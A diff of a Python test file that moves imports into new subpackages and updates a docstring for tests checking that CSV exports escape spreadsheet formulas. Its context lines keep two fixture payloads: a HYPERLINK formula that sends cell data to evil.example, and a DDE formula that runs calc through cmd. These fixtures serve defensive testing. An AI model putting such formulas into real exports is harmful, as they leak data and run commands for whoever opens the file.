@@ -16,9 +16,11 @@ from sqlalchemy import update
 from test_web import csrf_token, login
 from werkzeug.routing import IntegerConverter
 
-from engine import accounts, casework, performance, reports
-from engine.spreadsheet import safe_cell
-from engine.tables import items
+from engine.desk import casework
+from engine.org import accounts
+from engine.store.tables import items
+from engine.watch import performance, reports
+from engine.watch.spreadsheet import safe_cell
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"点此查看")'
 DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
@@ -59,8 +61,8 @@ def test_the_auditors_csv_escapes_formulas(client, db, hostile_item):
 
 
 def test_the_daily_report_csv_escapes_formulas(db, hostile_item):
-    """issue 13, item 10: engine.reports.to_csv, what the scheduler writes under instance/reports."""
-    from engine import clock
+    """issue 13, item 10: engine.watch.reports.to_csv, what the scheduler writes under instance/reports."""
+    from engine.time import clock
 
     rows = list(csv.reader(io.StringIO(reports.to_csv(reports.build(db, reports.DAILY, clock.local_date())))))
     department = next(r for r in rows[2:] if r[0] != reports.TOTAL)
